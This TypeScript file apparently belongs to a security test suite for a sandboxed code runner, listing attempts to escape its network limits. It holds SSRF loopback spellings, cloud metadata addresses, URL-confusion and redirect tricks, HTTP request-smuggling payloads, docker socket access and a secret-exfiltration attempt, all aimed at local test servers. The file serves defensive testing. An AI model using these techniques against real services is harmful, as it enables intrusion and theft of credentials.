import type { Attempt } from '../attempt.ts';

const REACHED = { canary: 'network', proof: 'ambient' } as const;

/** Loopback, as people and parsers write it. */
const SPELLINGS = [
  '127.0.0.1',
  '127.1',
  '127.0.1',
  '2130706433',
  '0x7f000001',
  '0x7f.1',
  '0177.0.0.1',
  '017700000001',
  '0.0.0.0',
  '0',
  'localhost',
  'LOCALHOST.',
  '[::1]',
  '[::]',
  '[::ffff:127.0.0.1]',
  '[::ffff:7f00:1]',
  '[0:0:0:0:0:ffff:7f00:0001]',
  '[64:ff9b::7f00:1]',
  '127.0.0.1.',
  '①②⑦.⓪.⓪.①',
  '127。0。0。1',
  'user:pass@127.0.0.1',
];
const METADATA = ['169.254.169.254', '[fd00:ec2::254]', '168.63.129.16', '100.100.100.200', 'metadata.google.internal'];

const asked = (hosts: readonly string[], ask: string): string =>
  `return all(...${JSON.stringify(hosts)}.map((host) => async () => (await within(1500, ${ask}('http://' + host + ':' + input.httpPort + '/spelled'))).text()));`;

const SPELLED: readonly Attempt[] = [
  {
    ...REACHED,
    id: 'global-fetch',
    tries: 'asks loopback in every spelling with the global fetch',
    run: asked(SPELLINGS, 'fetch'),
  },
  {
    ...REACHED,
    id: 'context-fetch',
    tries: 'asks loopback in every spelling with ctx.fetch',
    run: asked(SPELLINGS, 'ctx.fetch'),
  },
];

const OTHERS: readonly Attempt[] = [
  {
    canary: 'network',
    proof: 'none',
    id: 'metadata',
    tries: 'asks the metadata services of clouds',
    run: `if (input.isAmbient) return null; return all(...${JSON.stringify(METADATA)}.map((host) => async () => (await ctx.fetch('http://' + host + '/latest/meta-data/')).text()));`,
  },
  {
    ...REACHED,
    id: 'other-port',
    tries: 'asks another port of the host that it was granted',
    run: `return all(async () => (await ctx.fetch('http://localhost:' + input.httpPort + '/port')).text(), async () => (await ctx.fetch('http://localhost:' + input.grantedPort + '@127.0.0.1:' + input.httpPort + '/port')).text());`,
  },
  {
    ...REACHED,
    id: 'confused-url',
    tries: 'hides the real host behind user names, fragments, backslashes and tabs',
    run: `const good = 'localhost:' + input.grantedPort; const bad = '127.0.0.1:' + input.httpPort;
      return all(...['http://' + good + '@' + bad + '/', 'http://' + bad + '#@' + good + '/', 'http://' + bad + '\\\\@' + good + '/', 'http:\\t//' + bad + '/', 'http:/' + bad, 'http://' + good + '\\\\@' + bad, '//' + bad].map((url) => async () => (await ctx.fetch(url)).text()));`,
  },
  {
    ...REACHED,
    id: 'redirect',
    tries: 'lets the granted server lead it to another one, by status 307 and twice',
    run: `const bad = encodeURIComponent('http://127.0.0.1:' + input.httpPort + '/led'); const good = 'http://localhost:' + input.grantedPort;
      return all(async () => (await ctx.fetch(good + '/to?url=' + bad)).text(), async () => (await ctx.fetch(good + '/to?url=' + encodeURIComponent(good + '/to?url=' + bad))).text(), async () => (await fetch(good + '/to?url=' + bad, { method: 'POST', body: 'x' })).text());`,
  },
  {
    canary: 'file-read',
    proof: 'none',
    id: 'redirect-to-file',
    tries: 'lets the granted server lead it to a file',
    run: `const good = 'http://localhost:' + input.grantedPort + '/to?url=';
      return all(...['file://', 'FILE:', 'data:text/plain,'].map((scheme) => async () => (await ctx.fetch(good + encodeURIComponent(scheme + input.folder + '/secret.txt'))).text()));`,
  },
  {
    ...REACHED,
    id: 'tcp',
    tries: 'opens a TCP connection',
    run: `return all(...['127.0.0.1', 'localhost', '::ffff:127.0.0.1'].map((hostname) => async () => { const socket = await Deno.connect({ hostname, port: input.tcpPort }); await socket.write(bytesOf('x')); const bytes = new Uint8Array(100); await socket.read(bytes); return bytes; }));`,
  },
  {
    ...REACHED,
    id: 'node-net',
    tries: 'opens a TCP connection with node:net, node:tls, node:http and node:http2',
    run: `const net = await import('node:net'); const http = await import('node:http'); const tls = await import('node:tls'); const http2 = await import('node:http2');
      const settled = (emitter) => within(1500, new Promise((resolve, reject) => emitter.on('data', resolve).on('connect', () => resolve('connected')).on('response', () => resolve('answered')).on('error', reject)));
      return all(() => settled(net.connect(input.tcpPort, '127.0.0.1')), () => settled(http.get('http://127.0.0.1:' + input.httpPort)), () => settled(tls.connect(input.tcpPort, '127.0.0.1')), () => settled(http2.connect('http://127.0.0.1:' + input.httpPort)));`,
  },
  {
    ...REACHED,
    id: 'udp',
    tries: 'sends a datagram',
    run: `const dgram = await import('node:dgram');
      return all(() => within(1500, new Promise((resolve, reject) => dgram.createSocket('udp4').on('error', reject).send('leak', input.udpPort, '127.0.0.1', (error) => error ? reject(error) : resolve('sent')))), async () => Deno.listenDatagram({ port: 0, transport: 'udp' }).send(bytesOf('leak'), { transport: 'udp', hostname: '127.0.0.1', port: input.udpPort }), () => new Promise((resolve) => setTimeout(resolve, 50)));`,
  },
  {
    ...REACHED,
    id: 'unix-socket',
    tries: 'connects to a unix socket of the host, by path and by the paths of daemons',
    run: `const net = await import('node:net'); const paths = [input.folder + '/unix.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket'];
      return all(...paths.slice(0, input.isAmbient ? 1 : 3).flatMap((path) => [async () => (await Deno.connect({ transport: 'unix', path })).close(), () => within(1000, new Promise((resolve, reject) => net.connect(path).on('connect', () => resolve('connected')).on('error', reject)))]));`,
  },
  {
    ...REACHED,
    id: 'web-socket',
    tries: 'opens a WebSocket, a WebSocketStream and an EventSource',
    run: `const opened = (socket) => within(1000, new Promise((resolve, reject) => { socket.onopen = resolve; socket.onmessage = resolve; socket.onerror = () => reject(new Error('failed')); }));
      return all(() => opened(new WebSocket('ws://127.0.0.1:' + input.httpPort + '/ws')), () => opened(new EventSource('http://127.0.0.1:' + input.httpPort + '/events')), () => new WebSocketStream('ws://127.0.0.1:' + input.httpPort).opened, async () => opened(new (await import('node:http')).WebSocket('ws://127.0.0.1:' + input.httpPort)));`,
  },
  {
    ...REACHED,
    id: 'own-client',
    tries: 'makes an HTTP client of its own, with a proxy',
    run: `const url = 'http://127.0.0.1:' + input.httpPort;
      return all(async () => (await fetch('http://localhost:' + input.grantedPort + '/', { client: Deno.createHttpClient({ proxy: { url } }) })).text(), async () => (await fetch('http://nowhere.invalid/', { client: Deno.createHttpClient({ proxy: { url } }) })).text());`,
  },
  {
    ...REACHED,
    id: 'listen',
    proof: 'none',
    tries: 'listens on ports of its own',
    run: `return all(() => Deno.listen({ port: 0 }).addr.port, () => Deno.serve({ port: 0 }, () => new Response('x')), async () => (await import('node:http')).createServer().listen(0));`,
  },
  {
    ...REACHED,
    id: 'name-resolution',
    tries: 'leaks by resolving names, at a name server of its own choice',
    run: `const dns = await import('node:dns/promises');
      return all(() => within(1500, Deno.resolveDns('leak.example', 'A', { nameServer: { ipAddr: '127.0.0.1', port: input.udpPort } })), async () => { const resolver = new dns.Resolver({ timeout: 500, tries: 1 }); resolver.setServers(['127.0.0.1:' + input.udpPort]); return within(1500, resolver.resolve4('leak.example')); }, ...(input.isAmbient ? [] : [() => dns.lookup('localhost')]));`,
  },
  {
    ...REACHED,
    id: 'host-header',
    tries: 'chooses the Host header, to reach another virtual host',
    run: `const good = 'http://localhost:' + input.grantedPort + '/';
      return all(async () => (await ctx.fetch(good, { headers: { host: 'internal.example' } })).text(), async () => (await ctx.fetch(good, { headers: [['Host', 'internal.example'], ['hOST', 'internal.example']] })).text(), async () => { const socket = await Deno.connect({ hostname: '127.0.0.1', port: input.grantedPort }); await socket.write(bytesOf('GET / HTTP/1.1\\r\\nHost: internal.example\\r\\n\\r\\n')); return socket.read(new Uint8Array(99)); });`,
  },
  {
    ...REACHED,
    id: 'request-smuggling',
    tries: 'smuggles a second request in headers, the method, the path and the body',
    run: `const good = 'http://localhost:' + input.grantedPort; const second = 'GET /smuggled HTTP/1.1\\r\\nHost: internal\\r\\n\\r\\n';
      return all(async () => (await ctx.fetch(good, { headers: { 'x-a': 'b\\r\\n\\r\\n' + second } })).text(), async () => (await ctx.fetch(good, { method: 'GET / HTTP/1.1\\r\\nx-smuggled: 1\\r\\n\\r\\n' })).text(), async () => (await ctx.fetch(good + '/ HTTP/1.1\\r\\nx-smuggled: 1\\r\\n\\r\\n')).text(), async () => (await ctx.fetch(good, { method: 'POST', headers: { 'transfer-encoding': 'chunked', 'content-length': '4' }, body: '0\\r\\n\\r\\n' + second })).text(), async () => { const socket = await Deno.connect({ hostname: '127.0.0.1', port: input.grantedPort }); await socket.write(bytesOf(second)); return socket.read(new Uint8Array(99)); });`,
  },
  {
    ...REACHED,
    id: 'odd-methods',
    tries: 'asks with CONNECT and TRACE, and to upgrade the connection',
    run: `const good = 'http://localhost:' + input.grantedPort;
      return all(...['CONNECT', 'TRACE', 'TRACK', 'connect'].map((method) => async () => (await ctx.fetch(good, { method })).text()), async () => (await ctx.fetch(good, { headers: { connection: 'upgrade', upgrade: 'websocket' } })).text(), async () => { const socket = await Deno.connect({ hostname: '127.0.0.1', port: input.grantedPort }); await socket.write(bytesOf('TRACE / HTTP/1.1\\r\\nHost: localhost\\r\\nUpgrade: x\\r\\nConnection: upgrade\\r\\n\\r\\n')); return within(800, socket.read(new Uint8Array(99))); });`,
  },
  {
    ...REACHED,
    id: 'exfiltrate',
    tries: 'sends what it has to a host that it was not granted, in the path, headers, body and host name',
    run: `const bad = 'http://127.0.0.1:' + input.httpPort + '/'; const secret = ctx.secrets.MINE;
      return all(async () => (await ctx.fetch(bad + secret)).status, async () => (await ctx.fetch(bad, { method: 'POST', body: secret, headers: { 'x-key': secret } })).status, async () => (await ctx.fetch('http://' + secret + '.invalid/')).status, async () => navigator.sendBeacon?.(bad, secret));`,
  },
  {
    ...REACHED,
    id: 'request-objects',
    tries: 'passes a Request and objects whose URL changes between two reads',
    run: `const bad = 'http://127.0.0.1:' + input.httpPort + '/'; const good = 'http://localhost:' + input.grantedPort + '/'; let reads = 0;
      const fickle = { toString: () => (reads++ === 0 ? good : bad), get url() { return reads++ === 0 ? good : bad; } };
      class Fickle extends URL { get href() { return reads++ % 2 === 0 ? good : bad; } toString() { return bad; } }
      return all(async () => (await ctx.fetch(new Request(bad))).text(), async () => (await ctx.fetch(fickle)).text(), async () => (await ctx.fetch(new Fickle(good))).text(), async () => { const request = new Request(good); Object.defineProperty(request, 'url', { value: bad }); return (await ctx.fetch(request)).text(); });`,
  },
  {
    ...REACHED,
    id: 'patched-request',
    tries: 'patches Request, Headers and URL so that a checked address is not the one asked',
    run: `const bad = 'http://127.0.0.1:' + input.httpPort + '/';
      const real = await all(async () => (await fetch(bad)).text());
      Object.defineProperty(Request.prototype, 'url', { get: () => bad }); Headers.prototype[Symbol.iterator] = function* () { yield ['host', 'internal.example']; };
      return [real, await all(async () => (await ctx.fetch('http://localhost:' + input.grantedPort + '/')).text())];`,
  },
  {
    canary: 'network',
    proof: 'ambient',
    id: 'late-fetch',
    tries: 'asks a host that it was not granted after its call is over',
    before: `const bad = 'http://127.0.0.1:' + input.httpPort + '/late'; setInterval(() => { void fetch(bad).then(() => { globalThis.hasArrived = true; }).catch(() => {}); void ctx.fetch(bad).catch(() => {}); }, 5); return null;`,
    run: `for (let i = 0; i < (input.isAmbient ? 400 : 6) && !globalThis.hasArrived; i++) await new Promise((resolve) => setTimeout(resolve, 10)); return null;`,
  },
];

export const NETWORK: readonly Attempt[] = [...SPELLED, ...OTHERS];
